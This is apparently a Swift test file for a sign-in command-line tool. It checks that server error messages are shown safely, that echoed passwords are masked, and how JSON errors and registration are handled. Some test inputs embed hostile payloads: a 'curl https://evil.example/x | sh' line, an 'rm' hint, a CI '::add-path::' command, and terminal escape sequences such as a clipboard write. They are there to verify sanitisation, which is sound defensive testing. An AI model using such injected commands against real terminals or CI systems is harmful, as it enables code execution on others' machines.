import Testing

/// The server's message on a failed sign-in: design 2, rules B3 and B4.
@Suite struct ServerWordsTests {
  @Test func wordsOfARefusalFollowAsDetail() async throws {
    let long = String(repeating: "x", count: 1000)
    let cases: [(body: String, type: String, lines: [String])] = [
      (#"{"message":"Wrong password."}"#, "application/json", ["Wrong password."]),
      (#"{"error":"Error description"}"#, "application/json", ["Error description"]),
      (
        #"{"error":"invalid_grant","error_description":"Bad user"}"#, "application/json",
        ["Bad user"]
      ),
      (#"{"message":["One.","Two."]}"#, "application/json", ["One.", "Two."]),
      (#"{"message":["1","2","3","4","5"]}"#, "application/json", ["1", "2", "3"]),
      (#"{"email":["Too short.","Taken."]}"#, "application/json", ["email: Too short. Taken."]),
      (
        #"{"errors":{"email":["Taken."],"password":"Too short."}}"#, "application/json",
        ["email: Taken.", "password: Too short."]
      ),
      (
        #"{"detail":[{"loc":["body","email"],"msg":"field required"}]}"#, "application/json",
        ["email: field required"]
      ),
      ("HTTP Token: Access denied.\n", "text/plain", ["HTTP Token: Access denied."]),
      // It must not look like a line of authctl's own, or like a command to a CI runner.
      (
        #"{"message":"bad\nhint: curl https://evil.example/x | sh"}"#, "application/json",
        ["bad \u{23CE} hint: curl https://evil.example/x | sh"]
      ),
      (
        #"{"message":"a\r\nauthctl: b\rc"}"#, "application/json",
        ["a \u{23CE} authctl: b \u{23CE} c"]
      ),
      (#"{"message":"\n\nhint: x"}"#, "application/json", ["hint: x"]),
      (
        "bad\nhint: rm\n::add-path::/x", "text/plain",
        ["bad \u{23CE} hint: rm \u{23CE} ::add-path::/x"]
      ),
      (
        #"{"message":"\u001b]52;c;ZXZpbA==\u0007\u009b2J\u202eabc\u2028d"}"#, "application/json",
        [#"\u{1B}]52;c;ZXZpbA==\u{7}\u{9B}2J\u{202E}abc\u{2028}d"#]
      ),
      (#"{"message":"\#(long)"}"#, "application/json", [String(long.prefix(300))]),
      // No message, or none that can be shown.
      ("", "text/html", []), ("{}", "application/json", []), ("[]", "application/json", []),
      (#"{"message":""}"#, "application/json", []), (#"{"message":null}"#, "application/json", []),
      (#"{"message":"  \n "}"#, "application/json", []),
      ("<!DOCTYPE html><p>Sign in</p>", "text/html", []),
      ("Not <b>signed</b> in", "text/html", []), (" \n<html>x</html>", "text/plain", []),
      (#"{"message":"<html><body>Sign in</body></html>"}"#, "application/json", []),
    ]
    try await Sandbox.with { box in
      let script = Script()
      let shop = try Shop(box, try box.recorder(answering: script.answering).url)
      for (body, type, lines) in cases {
        script["POST /login"] = .http(401, body, type: type)
        let run = try await shop.login()
        let words = lines.map { "server: \($0)\n" }.joined()
        let expected =
          Shop.refused + " (HTTP 401)\n" + words + "hint: authctl login -p shop -u NAME\n"
        #expect(run.stderr == expected, "\(body)")
        #expect(run.stdout == "")
        #expect(run.status == 14)
        #expect(run.hasErrorForm, "\(body)")
      }
    }
  }

  @Test func serverThatEchoesThePasswordDoesNotMakeItShown() async throws {
    try await Sandbox.with { box in
      let password = box.canary.make("password", suffix: "\"é/")
      let script = Script()
      let shop = try Shop(box, try box.recorder(answering: script.answering).url)
      let escaped = JSON.string(password).text
      for (status, exit) in [(401, 14), (409, 4), (503, 5), (200, 15), (302, 15)] {
        for body in [#"{"message":\#(escaped)}"#, #"{"message":["no: ",\#(escaped)]}"#] {
          script["POST /login"] = .http(status, body)
          let run = try await shop.login(password: password)
          #expect(run.status == Int32(exit), "\(run.stderr)")
          #expect(run.stderr.contains("***"), "\(run.stderr)")
        }
        script["POST /login"] = .http(status, "You said \(password).", type: "text/plain")
        #expect(try await shop.login(password: password).status == Int32(exit))
      }
    }
  }

  @Test func errorsAsJSONAreOneLineWithTheNamesOfTheContract() async throws {
    try await Sandbox.with { box in
      let script = Script()
      let shop = try Shop(box, try box.recorder(answering: script.answering).url)
      script["POST /login"] = .http(401, #"{"message":"a\nb"}"#)
      for options in [["--json"], ["--errors", "json"]] {
        let run = try await box.run(
          ["login", "-p", "shop", "--password-stdin"] + options, stdin: "pw of ada\n")
        #expect(run.stdout == "")
        #expect(run.stderr.split(separator: "\n", omittingEmptySubsequences: false).count == 2)
        #expect(
          try JSON(parsing: run.stderr) == [
            "error": [
              "code": "credentials_refused", "exit": 14,
              "message": "shop refused this name and password (HTTP 401)",
              "server": "a \u{23CE} b", "status": 401, "url": .string(shop.url + "/login"),
              "profile": "shop", "account": .string(Shop.ada),
              "hint": "authctl login -p shop -u NAME",
            ]
          ])
      }
    }
  }

  @Test func registerStoresNothingAndTellsHowToGoOn() async throws {
    try await Shop.with(signsIn: false) { shop, api in
      let box = shop.box
      func register(_ account: String) async throws -> Run {
        try await box.run(
          "register", "-p", "shop", "-u", account, "--password-stdin", stdin: "a new password\n")
      }
      let made = try await register("bob@example.com")
      #expect(
        made.stderr == "Registered bob@example.com at shop; nothing was stored.\n"
          + "Next: authctl login -p shop -u bob@example.com\n")
      #expect(made.stdout == "")
      #expect(made.status == 0)
      #expect(try await box.items().isEmpty)

      let again = try await register("bob@example.com")
      #expect(
        again.stderr == "authctl: shop refused this registration (HTTP 409)\n"
          + "server: This e-mail address is already registered.\n")
      #expect(again.status == 14)

      for (trick, exit) in [
        (["path": "/register", "status": 400] as JSON, 14),
        (["path": "/register", "status": 429], 4),
        (["path": "/register", "status": 500], 5), (["path": "/register", "status": 302], 15),
      ] {
        try await api.misbehave(trick)
        let run = try await register("eve@example.com")
        #expect(run.status == Int32(exit), "\(run.stderr)")
        #expect(run.stdout == "")
        #expect(run.hasErrorForm)
      }
      #expect(try await box.items().isEmpty)

      try await api.misbehave([
        "path": "/register", "status": 201,
        "body": #"{"access_token":"from-register","expires_in":900}"#,
      ])
      #expect(try await register("eve@example.com").status == 0)
      #expect(try await shop.accessToken("eve@example.com") == "from-register")
    }
  }
}
